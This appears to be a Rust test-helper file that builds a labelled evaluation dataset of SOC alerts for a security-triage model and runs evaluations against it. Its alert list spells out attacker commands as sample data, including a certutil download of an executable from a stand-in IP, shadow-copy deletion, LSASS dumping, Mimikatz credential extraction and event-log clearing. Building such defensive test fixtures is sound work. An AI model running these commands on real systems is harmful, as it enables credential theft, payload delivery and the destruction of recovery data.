//! A labelled dataset for the evaluation tests: alerts asked through the
//! proxy of the `large` version, each conversation labelled and approved by
//! an analyst over the review API (with the large model's verdict, except a
//! few the analyst labels otherwise and corrects), and the snapshot built by
//! `POST /admin/api/datasets`. A small webhook receiver stands in for Slack;
//! `an_alert` is one for the stores to hold.

use crate::helpers::*;
use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::post;
use reqwest::Method;
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

pub const SYSTEM: &str = "You are a SOC analyst. State the threat type and severity.";

/// Small and large models know different indicators, so their verdicts
/// differ on some of these.
pub const ALERTS: &[&str] = &[
    "vssadmin delete shadows /all /quiet run by svc-backup.exe on FS-01",
    "Files renamed after an encrypt routine; rstrtmgr.dll loaded by invoice.exe",
    "User opened an attachment in Outlook and enabled a macro",
    "ISO file mounted from an email; mark-of-the-web bypassed on WS-17",
    "rclone copied \\\\fs01\\finance to a remote named backup",
    "Large upload to mega.nz over ftp from LAPTOP-9",
    "LSASS memory dumped by rundll32.exe via comsvcs.dll MiniDump on WS-042",
    "bcdedit /set recoveryenabled no run on SRV-DB-2",
    "A wiper binary was dropped in C:\\Windows\\Temp",
    "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
    "PsExec service installed remotely on SRV-APP-3",
    "Scheduled task created to run updater.exe at every logon",
    "whoami /all and net group \"domain admins\" run by a help-desk account",
    "powershell -enc SQBFAFgA run from winword.exe",
    "Registry Run key added for C:\\Users\\Public\\svc.exe",
    "Beacon to a command and control domain every 60 seconds over HTTPS",
    "Token impersonation to SYSTEM via a named pipe by print.exe",
    "Event log cleared with wevtutil cl Security",
    "Phishing email with a link to a fake Microsoft 365 login page",
    "Mimikatz sekurlsa::logonpasswords executed on DC-01",
];

/// Conversations the analyst labels otherwise than the large model said.
const CORRECTED: &[usize] = &[3, 9];
/// What `fine_tuning` needs for these alerts to make a ready dataset.
pub const READY: &str = "[fine_tuning]\nmin_examples = 10\n";

pub struct Labelled {
    pub dataset_id: String,
    pub train_ids: Vec<String>,
    /// The held-out split.
    pub validation_ids: Vec<String>,
}

fn field(answer: &str, name: &str) -> String {
    answer
        .lines()
        .find_map(|l| l.strip_prefix(name))
        .map(|v| v.trim().to_string())
        .unwrap_or_else(|| panic!("no `{name}` in {answer}"))
}

async fn ask_large(app: &TestApp, alert: &str) -> (String, String, String) {
    let response = app
        .http
        .post(app.url("/v1/chat/completions"))
        .bearer_auth(&app.analyst_key)
        .header("x-flywheel-variant", "large")
        .json(&json!({"model": "triage", "messages": [
            {"role": "system", "content": SYSTEM},
            {"role": "user", "content": alert},
        ]}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let id = response.headers()["x-flywheel-conversation-id"]
        .to_str()
        .unwrap()
        .to_string();
    let body: Value = response.json().await.unwrap();
    let answer = body["choices"][0]["message"]["content"].as_str().unwrap();
    (
        id,
        field(answer, "Threat type:"),
        field(answer, "Severity:"),
    )
}

/// Waits until the capture writer has stored the conversation with its
/// turn (the turn's record follows its conversation), then labels it
/// (with the answer it should have given, when the labels say otherwise
/// than the model).
async fn label(app: &TestApp, id: &str, threat_type: &str, severity: &str, corrected: bool) {
    let path = format!("/admin/api/conversations/{id}");
    app.stored_turns(id, 1).await;
    let mut patch = json!({"threat_type": threat_type, "severity": severity, "status": "approved"});
    if corrected {
        patch["correction"] = json!(format!(
            "Threat type: {threat_type}\nSeverity: {severity}\nRationale: as the analyst found."
        ));
    }
    let response = app.admin(Method::PATCH, &path, Some(&patch)).await;
    assert_eq!(response.status(), 200);
}

/// Asks, labels and approves [`ALERTS`], then builds a snapshot of the
/// approved conversations with a third held out for validation.
pub async fn labelled_dataset(app: &TestApp) -> Labelled {
    let mut asked = Vec::new();
    for alert in ALERTS {
        asked.push(ask_large(app, alert).await);
    }
    // Asked first, labelled after: the capture writer catches up meanwhile.
    for (i, (id, threat, severity)) in asked.into_iter().enumerate() {
        let corrected = CORRECTED.contains(&i);
        let (threat, severity) = if corrected {
            let other = if threat == "execution" {
                "discovery"
            } else {
                "execution"
            };
            (other.to_string(), "critical".to_string())
        } else {
            (threat, severity)
        };
        label(app, &id, &threat, &severity, corrected).await;
    }
    let response = app
        .admin(
            Method::POST,
            "/admin/api/datasets",
            Some(&json!({"name": "evaluation fixture", "format": "sft",
            "filter": {"status": "approved", "alias": "triage"}, "validation_split": 0.35})),
        )
        .await;
    assert_eq!(response.status(), 201);
    let built: Value = response.json().await.unwrap();
    assert_eq!(built["ready_for_training"], true, "{built}");
    let id = built["id"].as_str().unwrap().to_string();
    let record = app.state.store.dataset(&id).unwrap().unwrap();
    assert_eq!(
        record.train_ids.len() + record.validation_ids.len(),
        ALERTS.len()
    );
    Labelled {
        dataset_id: id,
        train_ids: record.train_ids,
        validation_ids: record.validation_ids,
    }
}

/// Queues a run and waits for it to end; returns the run.
pub async fn evaluate(app: &TestApp, dataset_id: &str, versions: &[&str]) -> Value {
    let response = app.admin(Method::POST, "/admin/api/evaluations", Some(&json!({"alias": "triage", "versions": versions, "dataset_id": dataset_id, "split": "validation"})))
    .await;
    assert_eq!(response.status(), 202);
    let queued: Value = response.json().await.unwrap();
    assert!(queued["id"].as_str().unwrap().starts_with("eval_"));
    assert!(matches!(
        queued["status"].as_str(),
        Some("queued" | "running")
    ));
    finished(app, queued["id"].as_str().unwrap()).await
}

pub async fn run_of(app: &TestApp, id: &str) -> Value {
    let response = app
        .admin(Method::GET, &format!("/admin/api/evaluations/{id}"), None)
        .await;
    assert_eq!(response.status(), 200);
    response.json().await.unwrap()
}

pub async fn finished(app: &TestApp, id: &str) -> Value {
    eventually(
        &format!("evaluation {id} to finish"),
        Duration::from_secs(120),
        || async {
            let run = run_of(app, id).await;
            if matches!(run["status"].as_str(), Some("succeeded" | "failed")) {
                Ok(run)
            } else {
                Err(run["progress"].to_string())
            }
        },
    )
    .await
}

/// Records every POST body; answers with `status`.
#[derive(Clone)]
pub struct Receiver {
    pub bodies: Arc<Mutex<Vec<Value>>>,
    status: StatusCode,
}

pub async fn webhook_receiver(status: StatusCode) -> (SocketAddr, Receiver) {
    let receiver = Receiver {
        bodies: Arc::default(),
        status,
    };
    let router = axum::Router::new()
        .route(
            "/hook",
            post(
                |State(r): State<Receiver>, body: axum::Json<Value>| async move {
                    r.bodies.lock().unwrap().push(body.0);
                    r.status
                },
            ),
        )
        .with_state(receiver.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, router).await });
    (addr, receiver)
}

/// An open `evaluation` alert of `triage`'s `base`, raised `at`.
pub fn an_alert(id: &str, at: &str) -> flywheel::store::AlertRecord {
    flywheel::store::AlertRecord {
        id: id.into(),
        at: at.into(),
        kind: "evaluation".into(),
        alias: Some("triage".into()),
        version: Some("base".into()),
        metric: Some("accuracy".into()),
        value: Some(0.5),
        threshold: Some(0.9),
        message: format!("accuracy under target ({id})"),
        state: "open".into(),
        acknowledged_by: None,
        acknowledged_at: None,
    }
}
